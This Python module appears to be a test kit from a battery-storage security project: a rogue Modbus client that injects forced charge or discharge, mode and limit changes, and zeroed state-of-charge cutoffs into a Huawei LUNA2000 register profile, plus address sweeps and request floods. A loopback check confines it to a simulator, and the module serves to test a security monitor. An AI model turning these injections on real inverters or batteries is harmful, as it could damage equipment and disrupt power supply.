"""A rogue Modbus client on the site LAN: command injection, reconnaissance, flooding.

For measuring the security monitor against the simulator only: every address is checked to be
on the loopback network, so the kit cannot be pointed at a real device by mistake.
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import random
from dataclasses import dataclass

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.exceptions import ModbusException

from bessai.errors import BessaiError
from bessai.modbus.codec import encode
from bessai.modbus.profile import load_builtin

LUNA = "huawei_luna2000"

#: command injections: name -> the points written, in order (physical values)
INJECTIONS: dict[str, tuple[tuple[str, object], ...]] = {
    "forcible_charge": (
        ("forcible_charge_power_w", 4000),
        ("forcible_mode", 0),
        ("forcible_period_min", 30),
        ("forcible_command", 1),
    ),
    "forcible_discharge": (
        ("forcible_discharge_power_w", 4000),
        ("forcible_mode", 0),
        ("forcible_period_min", 30),
        ("forcible_command", 2),
    ),
    "mode_change": (("working_mode_setting", 4),),
    "limit_raise": (("max_discharge_power_setting_w", 5000), ("charge_cutoff_soc_pct", 100)),
    "out_of_profile": (("discharge_cutoff_soc_pct", 0), ("backup_power_soc_pct", 0)),
}


class AttackTargetError(BessaiError):
    """The attack kit was pointed outside the loopback network."""


def check_loopback(host: str) -> None:
    """Refuse any target that is not a loopback address (the simulator on this machine)."""
    try:
        address = ipaddress.ip_address(host if host != "localhost" else "127.0.0.1")
    except ValueError:
        raise AttackTargetError(f"attack target {host!r} is not an IP address") from None
    if not address.is_loopback:
        raise AttackTargetError(
            f"attack target {host} is not loopback: the kit only hits a simulator"
        )


@dataclass(frozen=True, slots=True)
class Target:
    """Where the rogue client connects."""

    host: str
    port: int
    unit_id: int = 1


async def _client(target: Target) -> AsyncModbusTcpClient:
    check_loopback(target.host)
    client = AsyncModbusTcpClient(target.host, port=target.port, timeout=1.0, retries=0)
    if not await client.connect():
        raise AttackTargetError(f"cannot connect to {target.host}:{target.port}")
    return client


async def inject(target: Target, kind: str) -> list[tuple[int, list[int]]]:
    """Write one command injection; returns the (address, registers) sent."""
    try:
        steps = INJECTIONS[kind]
    except KeyError:
        raise AttackTargetError(f"unknown injection {kind!r} ({', '.join(INJECTIONS)})") from None
    profile = load_builtin(LUNA)
    client = await _client(target)
    sent = []
    try:
        for name, value in steps:
            point = profile.point(name)
            words = encode(point, value)
            if len(words) == 1:
                await client.write_register(point.address, words[0], device_id=target.unit_id)
            else:
                await client.write_registers(point.address, words, device_id=target.unit_id)
            sent.append((point.address, words))
    finally:
        client.close()
    return sent


async def recon(target: Target, rng: random.Random, span: int = 40) -> int:
    """Device identification, then an address sweep around the battery's control block; returns
    the requests sent."""
    client = await _client(target)
    requests = 0
    try:
        with contextlib.suppress(ModbusException):
            await client.read_device_information(device_id=target.unit_id)
        requests += 1
        start = rng.choice((47000, 47200, 37000, 30000))
        for address in range(start, start + span, 4):
            with contextlib.suppress(ModbusException):
                await client.read_holding_registers(address, count=4, device_id=target.unit_id)
            requests += 1
    finally:
        client.close()
    return requests


async def flood(target: Target, requests: int = 200, connections: int = 3) -> int:
    """Many reads as fast as the device answers, from a few connections at once."""

    async def one(n: int) -> int:
        client = await _client(target)
        done = 0
        try:
            for _ in range(n):
                try:
                    await client.read_holding_registers(32000, count=100, device_id=target.unit_id)
                except ModbusException:
                    await asyncio.sleep(0)
                done += 1
        finally:
            client.close()
        return done

    counts = await asyncio.gather(
        *(one(requests // connections) for _ in range(connections)), return_exceptions=True
    )
    return sum(c for c in counts if isinstance(c, int))
